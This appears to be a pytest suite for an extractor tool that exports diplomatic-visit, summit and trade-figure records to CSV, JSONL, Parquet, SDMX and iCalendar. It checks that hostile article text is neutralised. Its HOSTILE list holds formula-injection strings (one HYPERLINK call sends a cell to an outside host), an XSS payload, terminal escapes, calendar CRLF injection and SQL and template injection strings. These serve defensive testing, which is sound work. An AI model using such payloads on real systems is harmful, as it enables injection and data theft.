import csv
import io
import re
import runpy
from decimal import Decimal
from pathlib import Path
from typing import get_args

import pytest

from extractor import Extraction, Participant, Period, Person, Place, Summit, TradeFigure, Usage, Visit
from extractor.article import Published
from extractor.exporting import calendar, csvs, jsonl, parquet, sdmx
from extractor.exporting.tables import TABLES
from extractor.ledger import Kept
from extractor.records import Flow, Issue, Measure, Modality, Qualifier, Source
from extractor.spans import Span

DAY = Period(start="2025-06-17", end="2025-06-19")
STRUCTURE = Path(__file__).parents[2] / "docs" / "trade_figures.sdmx.xml"
RANGES = (
    ("2025-03", None), ("2025-03-04", None), ("2025-07", "2025-12"), ("2025-04", "2025-06"), ("2025-02", "2025-04"),
    ("2025", None),
)  # fmt: skip


def visit(**changes):
    fields = {
        "id": "visit-1",
        "visitor": Person(name="Анна Рохас", country="AR", role="президент"),
        "destination": Place(country="KG", city="Бишкек"),
        "period": DAY,
        "status": "planned",
        "evidence": (Span(0, 9), Span(20, 31)),
    }
    return Visit(**fields | changes)


def summit(**changes):
    people = (
        Participant(person=Person(name="Анна Рохас"), country="AR", attendance="attended"),
        Participant(country="KG", attendance="declined"),
        Participant(country="UZ", attendance="invited"),
    )
    fields = {"id": "summit-1", "name": "Встреча", "level": "multilateral", "place": Place(), "period": DAY}
    return Summit(**fields | {"participants": people} | changes)


def figure(**changes):
    fields = {
        "id": "tradefigure-1",
        "reporter": "KG",
        "partner": "C5+1",
        "flow": "export",
        "measure": "level",
        "value": Decimal("4000000000"),
        "unit": "USD",
        "period": Period(start="2024"),
    }
    return TradeFigure(**fields | changes)


def kept(*, visits=(), summits=(), figures=(), published="2025-06-12", **source):
    fields = {"id": "a", "sha256": "0" * 64, "chars": 9, "published": Published(date=published, basis="given")}
    extraction = Extraction(
        article=Source(**fields | source),
        visits=visits,
        summits=summits,
        trade_figures=figures,
        usage=Usage(model="m", extractor_version="0"),
    )
    return Kept("k", extraction, 1_750_000_000.0)


def as_csv(table, *all_kept):
    stream = io.StringIO()
    csvs.write(table, all_kept, stream)
    return list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))


def test_jsonl_is_one_line_an_extraction_whatever_stands_in_it():
    evil = kept(visits=[visit(purpose="один\ntwo\u2028three\x85four\x1b[31m\x9b31m")], title="a\r\nb")
    stream = io.StringIO()
    assert jsonl.write([evil, evil], stream) == 2
    text = stream.getvalue()
    assert len(text.splitlines()) == 2
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", text)
    assert Extraction.from_json(text.splitlines()[0]) == evil.extraction


def test_a_row_of_csv_holds_what_the_record_says():
    issue = Issue(code="no_travel", severity="warning", message="")
    (row,) = as_csv("visits", kept(visits=[visit(issues=(issue, issue), needs_review=True)], url="http://x/y"))
    assert list(row) == [column.name for column in TABLES["visits"]]
    assert (row["visitor"], row["country"], row["city"]) == ("Анна Рохас", "KG", "Бишкек")
    assert (row["start"], row["end"], row["last_day"]) == ("2025-06-17", "2025-06-19", "2025-06-19")
    assert (row["issues"], row["needs_review"], row["confidence"]) == ("no_travel", "true", "")
    assert (row["evidence"], row["article_published"], row["article_url"]) == ("0-9 20-31", "2025-06-12", "http://x/y")
    (row,) = as_csv("visits", kept(visits=[visit(period=Period(start="2024-02"))]))
    assert (row["start"], row["end"], row["first_day"], row["last_day"]) == ("2024-02", "", "2024-02-01", "2024-02-29")


def test_participants_are_rows_of_their_own():
    rows = as_csv("participants", kept(summits=[summit()]))
    assert [(row["summit"], row["person"], row["country"], row["attendance"]) for row in rows] == [
        ("summit-1", "Анна Рохас", "AR", "attended"),
        ("summit-1", "", "KG", "declined"),
        ("summit-1", "", "UZ", "invited"),
    ]


@pytest.mark.parametrize("words", ["=1+1", "+7", "-x", "@SUM(A1)", "\t=1", "\u202e=1", "＝1", " =1"])
def test_no_cell_of_csv_is_run(words):
    (row,) = as_csv("visits", kept(visits=[visit(purpose=words)], title=words))
    assert row["purpose"].startswith("'")
    assert row["article_title"].startswith("'")


def test_csv_has_one_line_a_row_and_nothing_that_a_terminal_obeys():
    stream = io.StringIO()
    csvs.write("visits", [kept(visits=[visit(purpose='a\r\n"b"\x1b]8;;http://x\x07c\x00')])], stream)
    head, row, end = stream.getvalue().split("\r\n")
    assert end == ""
    assert '"a ""b""c"' in row
    assert not re.search("[\x00-\x1f\x7f-\x9f]", head + row)


def test_numbers_keep_their_sign_and_every_digit():
    (row,) = as_csv("trade_figures", kept(figures=[figure(value=Decimal("-12.50"), measure="growth", unit="percent")]))
    assert row["value"] == "-12.50"
    (row,) = as_csv("trade_figures", kept(figures=[figure(value=Decimal("1E+12"))]))
    assert row["value"] == "1000000000000"


def test_parquet_has_types_and_the_meaning_of_each_column(tmp_path):
    reader = pytest.importorskip("pyarrow.parquet", reason="needs extractor[export]")
    path = tmp_path / "t.parquet"
    assert parquet.write("trade_figures", [kept(figures=[figure(), figure(value=Decimal("-0.1"))])], path) == 2
    table = reader.read_table(path)
    assert table.column_names == [column.name for column in TABLES["trade_figures"]]
    assert table["value"].to_pylist() == [Decimal(4_000_000_000), Decimal("-0.1")]
    assert [str(table.schema.field(name).type) for name in ("value", "first_day", "needs_review", "unit")] == [
        "decimal128(38, 10)", "date32[day]", "bool", "string",
    ]  # fmt: skip
    assert table["first_day"].to_pylist()[0].isoformat() == "2024-01-01"
    assert table.schema.field("unit").metadata[b"meaning"]


def test_one_number_without_end_keeps_no_other_back_from_parquet(tmp_path):
    reader = pytest.importorskip("pyarrow.parquet", reason="needs extractor[export]")
    path = tmp_path / "t.parquet"
    values = ["1E+40", "-1E+28", "0.123456789012", "9" * 28, "2.5"]
    parquet.write("trade_figures", [kept(figures=[figure(value=Decimal(one)) for one in values])], path)
    read = reader.read_table(path)["value"].to_pylist()
    assert read == [None, None, Decimal("0.1234567890"), Decimal("9" * 28), Decimal("2.5")]


@pytest.mark.parametrize("table", TABLES)
def test_a_table_without_rows_has_its_columns(table, tmp_path):
    assert as_csv(table, kept()) == []
    reader = pytest.importorskip("pyarrow.parquet", reason="needs extractor[export]")
    assert parquet.write(table, [], tmp_path / "t.parquet") == 0
    assert reader.read_table(tmp_path / "t.parquet").column_names == [column.name for column in TABLES[table]]


def as_sdmx(*figures):
    stream = io.StringIO()
    counts = sdmx.write([kept(figures=figures)], stream)
    return counts, list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))


def test_a_trade_figure_is_an_observation_with_standard_codes():
    counts, (row,) = as_sdmx(figure())
    assert counts == (1, 0)
    assert list(row) == list(sdmx.COLUMNS)
    assert (row["STRUCTURE"], row["ACTION"]) == ("dataflow", "I")
    assert (row["FREQ"], row["TIME_PERIOD"]) == ("A", "2024")
    assert (row["REF_AREA"], row["COUNTERPART_AREA"], row["FLOW"]) == ("KG", "C5_1", "X")
    assert (row["OBS_VALUE"], row["UNIT_MEASURE"], row["UNIT_MULT"]) == ("4000000000", "USD", "0")
    assert (row["OBS_STATUS"], row["PRODUCT"]) == ("A", "_T")


def test_an_sdmx_tool_reads_every_observation_with_the_structure_of_the_docs():
    tool = pytest.importorskip("pysdmx.io", reason="pysdmx is not installed")
    words = [
        ("flow", get_args(Flow)),
        ("measure", get_args(Measure)),
        ("modality", get_args(Modality)),
        ("qualifier", get_args(Qualifier)),
        ("period", [Period(start=start, end=end) for start, end in RANGES]),
    ]
    figures = [figure(**{name: word}) for name, several in words for word in several]
    stream = io.StringIO()
    assert sdmx.write([kept(figures=figures)], stream) == (len(figures), 0)
    (read,) = tool.get_datasets(stream.getvalue(), STRUCTURE)  # checks the structure against the schemas of SDMX 3.0
    assert read.data["TIME_PERIOD"].tolist()[-len(RANGES) :] == [
        "2025-03", "2025-03-04", "2025-S2", "2025-Q2", "2025-02-01/P3M", "2025",
    ]  # fmt: skip
    enumerated = {
        part.id: {code.id for code in part.local_codes} for part in read.structure.components if part.local_codes
    }
    assert set(enumerated) == {
        "FREQ", "FLOW", "MEASURE", "PRODUCT", "UNIT_MULT", "OBS_STATUS", "MODALITY", "QUALIFIER",
    }  # fmt: skip
    for name, codes in enumerated.items():
        assert set(read.data[name].astype(str)) <= codes
    message = tool.write_sdmx(read, tool.format.Format.DATA_SDMX_ML_3_0)
    (again,) = tool.get_datasets(message, STRUCTURE)
    assert list(map(Decimal, again.data["OBS_VALUE"])) == list(map(Decimal, read.data["OBS_VALUE"]))


def test_the_structure_of_the_docs_is_that_of_the_code():
    pytest.importorskip("pysdmx.io", reason="pysdmx is not installed")
    page = runpy.run_path(str(STRUCTURE.parent.parent / "bench" / "sdmx_structure.py"))
    assert page["message"]() == STRUCTURE.read_text("utf-8")


def test_what_sdmx_cannot_say_is_left_out_and_counted():
    counts, rows = as_sdmx(figure(value=None), figure(period=Period()), figure(value=Decimal("2")))
    assert (counts, len(rows)) == ((1, 2), 1)


def test_no_two_observations_have_one_key():
    _, rows = as_sdmx(figure(), figure(value=Decimal("5")), figure(modality="forecast", product="=рис", unit="t"))
    dimensions = sdmx.COLUMNS[3 : sdmx.COLUMNS.index("OBS_VALUE")]
    assert len({tuple(row[name] for name in dimensions) for row in rows}) == 3
    assert (rows[2]["OBS_STATUS"], rows[2]["MODALITY"], rows[2]["UNIT_MEASURE"]) == ("F", "FORECAST", "TNE")
    assert (rows[2]["PRODUCT"], rows[2]["PRODUCT_TEXT"]) == ("_X", "'=рис")


@pytest.mark.parametrize(
    ("start", "end", "said"),
    [
        ("2025-03", "2025-03", ("M", "2025-03")),
        ("2025-03-04", None, ("D", "2025-03-04")),
        ("2025-07", "2025-12", ("S", "2025-S2")),
        ("2025-02", "2025-04", ("_Z", "2025-02-01/P3M")),
        ("2025-01", "2025-12", ("A", "2025")),
        ("2025-01-01", "2025-12-15", ("_Z", "2025-01-01/P349D")),
        ("2021", "2025", ("_Z", "2021-01-01/P5Y")),
        ("2025", "2024", None),
    ],
)
def test_periods_as_sdmx_writes_them(start, end, said):
    assert sdmx.time_period(Period(start=start, end=end)) == said


def events(*all_kept):
    library = pytest.importorskip("icalendar", reason="needs extractor[export]")
    text, written, left_out = calendar.calendar(all_kept)
    assert b"\r\n" in text
    found = library.Calendar.from_ical(text)
    assert (found["version"], bool(found["prodid"])) == ("2.0", True)
    read = list(found.walk("VEVENT"))
    assert len(read) == written
    return read, left_out


def test_a_visit_is_an_event_of_whole_days():
    (event,), _ = events(kept(visits=[visit()], url="http://x/y"))
    assert event["uid"] == "visit-1"
    assert (event["dtstart"].dt.isoformat(), event["dtend"].dt.isoformat()) == ("2025-06-17", "2025-06-20")
    assert event["dtstart"].params["VALUE"] == "DATE"
    assert (event["status"], event["location"], event["url"]) == ("TENTATIVE", "Бишкек, KG", "http://x/y")
    assert event["summary"] == "Анна Рохас → Бишкек, KG"
    assert event["attendee"].params["PARTSTAT"] == "TENTATIVE"
    assert event["attendee"].params["CN"] == "Анна Рохас (AR)"


def test_participants_have_their_attendance():
    (event,), _ = events(kept(summits=[summit(status="cancelled")]))
    assert event["status"] == "CANCELLED"
    assert [one.params["PARTSTAT"] for one in event["attendee"]] == ["ACCEPTED", "DECLINED", "NEEDS-ACTION"]
    assert [one.params["CUTYPE"] for one in event["attendee"]] == ["INDIVIDUAL", "GROUP", "GROUP"]


def test_a_record_without_a_day_is_no_event():
    month, nothing, backwards = Period(start="2025-06"), Period(), Period(start="2025-06-03", end="2025-06-01")
    read, left_out = events(kept(visits=[visit(period=one) for one in (month, nothing, backwards)]))
    assert (read, left_out) == ([], 3)


def test_an_event_of_several_articles_is_told_as_the_last_one_tells_it():
    first = kept(visits=[visit()], published="2025-06-12")
    last = kept(visits=[visit(status="cancelled")], published="2025-06-16")
    for order in ((first, last), (last, first)):
        (event,), _ = events(*order)
        assert event["status"] == "CANCELLED"


def test_words_of_an_article_add_no_property_to_a_calendar():
    evil = visit(visitor=Person(name='A"\r\nSTATUS:CANCELLED\r\nX:"', country="AR"))
    (event,), _ = events(kept(visits=[evil], title="b\nATTENDEE:mailto:x@y"))
    assert event["status"] == "TENTATIVE"
    assert not isinstance(event["attendee"], list)


# --- what an article's author may write ---

HOSTILE = [
    '=HYPERLINK("http://x.example/"&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\x1b]8;;http://x.example/\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31mred",
    "a\r\nSTATUS:CANCELLED\r\nEND:VEVENT",
    "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "\u202egnp.exe",
    "\U000e0041\U000e0042tagged",
    '","=1+1","',
    "'; DROP TABLE visit; --",
    "{{7*7}}{% if x %}",
    "\ud7ff\ufffe\uffff",
    "a\x00b",
    'ATTENDEE;CN="x":mailto:a@b',
    "\\nBEGIN:VALARM",
]
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202e\U000e0041]")


def hostile(words):
    """An extraction that says ``words`` wherever an article's words can stand."""
    who = Person(name=words, country="AR", role=words)
    place = Place(country="KG", city=words)
    return kept(
        visits=[visit(visitor=who, hosts=(who,), destination=place, purpose=words, attributed_to=words)],
        summits=[summit(name=words, place=place, participants=(Participant(person=who),), attributed_to=words)],
        figures=[figure(product=words, source_org=words, attributed_to=words, share_of=words)],
        title=words,
        source=words,
        url=words,
    )


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_words_in_every_file(words):
    evil, plain = hostile(words), hostile("слово")
    for table in TABLES:
        stream = io.StringIO()
        csvs.write(table, [evil], stream)
        lines = stream.getvalue().split("\r\n")
        assert len(lines) == 3
        assert not CONTROLS.search(stream.getvalue())
        for cell in next(csv.reader([lines[1]])):
            assert not cell.startswith(("=", "+", "-", "@"))
    stream = io.StringIO()
    assert sdmx.write([evil], stream) == (1, 0)
    assert not CONTROLS.search(stream.getvalue())
    (row,) = csv.DictReader(io.StringIO(stream.getvalue(), newline=""))
    assert list(row) == list(sdmx.COLUMNS)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    stream = io.StringIO()
    jsonl.write([evil, plain], stream)
    assert len(stream.getvalue().splitlines()) == 2
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", stream.getvalue())


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("table", TABLES)
def test_hostile_words_are_text_in_parquet_and_nothing_that_a_terminal_obeys(table, words, tmp_path):
    reader = pytest.importorskip("pyarrow.parquet", reason="needs extractor[export]")
    parquet.write(table, [hostile(words)], tmp_path / "evil.parquet")
    parquet.write(table, [hostile("слово")], tmp_path / "plain.parquet")
    evil, plain = (reader.read_table(tmp_path / f"{name}.parquet") for name in ("evil", "plain"))
    assert evil.schema.equals(plain.schema, check_metadata=True)
    assert evil.num_rows == plain.num_rows
    told = [cell for row in evil.to_pylist() for cell in row.values() if isinstance(cell, str)]
    assert told
    assert not any(CONTROLS.search(cell) for cell in told)


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_add_no_line_to_a_calendar(words):
    def names(one):
        return [sorted(event.keys()) for event in events(one)[0]]

    assert names(hostile(words)) == names(hostile("слово"))
    assert [event.get("status") for event in events(hostile(words))[0]] == ["TENTATIVE", None]
    text = calendar.calendar([hostile(words)])[0].decode()
    assert len(re.findall("^BEGIN:", text, re.MULTILINE)) == 3
    assert not re.search("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)
